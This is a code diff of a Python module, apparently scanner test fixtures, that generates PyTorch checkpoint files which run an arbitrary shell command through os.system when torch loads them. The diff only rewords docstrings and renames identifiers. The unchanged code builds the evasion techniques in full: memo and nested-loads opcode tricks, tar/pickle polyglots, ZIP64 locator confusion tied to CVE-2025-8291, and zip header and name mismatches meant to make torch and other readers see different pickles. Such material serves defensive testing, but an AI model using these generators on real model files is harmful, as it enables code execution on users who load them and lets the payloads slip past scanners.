@@ -1,4 +1,4 @@
-"""Checkpoints that run a command when torch loads them, each hidden in another way."""
+"""Checkpoints that run a command when torch loads them, each hidden in a different way."""
 
 import io
 import os
@@ -8,7 +8,7 @@ import tarfile
 import zipfile
 
 MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
-HARMLESS = b"}."
+HARMLESS_PICKLE = b"}."
 END = b"PK\x05\x06"
 
 
@@ -18,12 +18,12 @@ def text(value: str) -> bytes:
 
 
 def call(command: str, function: bytes = b"cposix\nsystem\n") -> bytes:
-    """Return the opcodes that call `function`, by default what runs a command."""
+    """Return the opcodes that call `function`, by default `os.system`."""
     return function + b"(" + text(command) + b"tR"
 
 
 def as_zip(pickled: bytes, name: str = "archive/data.pkl", *, more: dict[str, bytes] | None = None) -> bytes:
-    """Wrap a pickle in torch's newer format."""
+    """Wrap a pickle in torch's zip format."""
     return zipped({name: pickled, **(more or {}), "archive/version": b"3\n"})
 
 
@@ -37,7 +37,7 @@ def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> 
 
 
 def as_stream(*pickled: bytes) -> bytes:
-    """Wrap a pickle in torch's older format: magic number, protocol, system, the pickle, the storages' keys."""
+    """Wrap a pickle in torch's legacy format: magic number, protocol, system, the pickle, the storage keys."""
     preamble = [pickle.dumps(part, 2) for part in (MAGIC, PROTOCOL, {"little_endian": True})]
     return b"".join([*preamble, *pickled, pickle.dumps([], 2)])
 
@@ -53,7 +53,7 @@ class Calls:
 
 
 def memoised(command: str) -> bytes:
-    """The two halves of the name are put away, and taken out again far from where they stood."""
+    """Return a pickle that takes both parts of the function's name from the memo."""
     put = text("posix") + b"q\x000" + text("system") + b"q\x010"
     return b"\x80\x04" + put + b"]0h\x00h\x01\x93(" + text(command) + b"tR."
 
@@ -77,18 +77,18 @@ NAMED = {
         b"\x80\x03c_pickle\nloads\n(B" + struct.pack("<I", len(call(command)) + 1) + call(command) + b"." + b"tR."
     ),
 }
-"""Pickles that run a command, and by which kind of opcode they come to the name."""
+"""Pickles that run a command, by the opcodes that produce the function."""
 
 
 def at_each_place_of_a_stream(command: str) -> dict[str, bytes]:
-    """Return streams that run a command in each of the pickles that torch's older format begins with."""
+    """Return streams that run a command in each of the pickles at the start of torch's legacy format."""
     whole = [pickle.dumps(part, 2) for part in (MAGIC, PROTOCOL, {}, {}, [])]
     evil = call(command) + b"."
     return {f"pickle {place}": b"".join([*whole[:place], evil, *whole[place + 1 :]]) for place in range(len(whole))}
 
 
 def tar_that_begins_like_a_stream(command: str) -> bytes:
-    """A tar header may begin with anything, for that is a file's name: here, with harmless pickles."""
+    """Return a tar that begins with harmless pickles: its first bytes are a file name."""
     target, evil = io.BytesIO(), call(command) + b"."
     header = bytearray(tarfile.TarInfo("x").tobuf(tarfile.USTAR_FORMAT))
     header[:100] = (pickle.dumps(MAGIC, 2) + pickle.dumps(PROTOCOL, 2) + b"N.N.N.").ljust(100, b"\0")
@@ -102,11 +102,11 @@ def tar_that_begins_like_a_stream(command: str) -> bytes:
 
 
 def zip_with_two_ends(command: str) -> bytes:
-    """The locator names one end of the directory, and the other lies where it ought to.
+    """Return a zip whose ZIP64 locator names another end record than the one before the locator.
 
-    Python's zipfile took the latter until CVE-2025-8291.
+    Python's zipfile read the latter until CVE-2025-8291 was fixed.
     """
-    harmless, evil = _parts(as_zip(HARMLESS)), _parts(as_zip(call(command) + b"."))
+    harmless, evil = ZipParts(as_zip(HARMLESS_PICKLE)), ZipParts(as_zip(call(command) + b"."))
     body = harmless.files + evil.files
     hidden = evil.listing(len(harmless.files))
     ends = [len(body), len(body) + len(hidden) + 56]
@@ -116,8 +116,8 @@ def zip_with_two_ends(command: str) -> bytes:
 
 
 def zip_with_a_directory_after_its_end(command: str) -> bytes:
-    """The end names a directory in its own comment; Python's zipfile takes the one before the end."""
-    harmless, evil = _parts(as_zip(HARMLESS)), _parts(as_zip(call(command) + b"."))
+    """Return a zip whose end record names a directory in its comment; Python's zipfile reads the one before."""
+    harmless, evil = ZipParts(as_zip(HARMLESS_PICKLE)), ZipParts(as_zip(call(command) + b"."))
     files = harmless.files + evil.files
     hidden_at = len(files) + len(harmless.directory) + 22
     shown = harmless.listing(hidden_at - len(files))
@@ -125,7 +125,7 @@ def zip_with_a_directory_after_its_end(command: str) -> bytes:
 
 
 def zip_with_another_name_inside(command: str) -> bytes:
-    """The directory calls the pickle otherwise than its own header does."""
+    """Return a zip whose directory and local header disagree on the name of the pickle."""
     return as_zip(call(command) + b".").replace(b"archive/data.pkl", b"archive/data.txt", 1)
 
 
@@ -136,16 +136,16 @@ TWO_READINGS = {
     "a zip with another name inside": zip_with_another_name_inside,
     "a name in capitals": lambda command: as_zip(call(command) + b".", "archive/DATA.PKL"),
     "a name twice, but for capitals": lambda command: zipped(
-        {"archive/DATA.PKL": call(command) + b".", "archive/data.pkl": HARMLESS, "archive/version": b"3\n"}
+        {"archive/DATA.PKL": call(command) + b".", "archive/data.pkl": HARMLESS_PICKLE, "archive/version": b"3\n"}
     ),
     "a compressed pickle": lambda command: zipped(
         {"archive/data.pkl": call(command) + b".", "archive/version": b"3\n"}, zipfile.ZIP_DEFLATED
     ),
 }
-"""Files out of which torch takes a pickle that runs a command, and other readers perhaps another."""
+"""Files from which torch reads a pickle that runs a command, and other readers may read another."""
 
 
-class _parts:  # noqa: N801  # reads as what it makes
+class ZipParts:
     """The files of a zip, and its directory."""
 
     def __init__(self, data: bytes) -> None:
@@ -154,7 +154,7 @@ class _parts:  # noqa: N801  # reads as what it makes
         self.files, self.directory = data[:at], data[at : at + size]
 
     def listing(self, shift: int) -> bytes:
-        """Return the directory for files that lie `shift` bytes further on."""
+        """Return the directory for files that are moved by `shift` bytes."""
         moved, at = bytearray(self.directory), 0
         for _ in range(self.count):
             (offset,) = struct.unpack_from("<L", moved, at + 42)
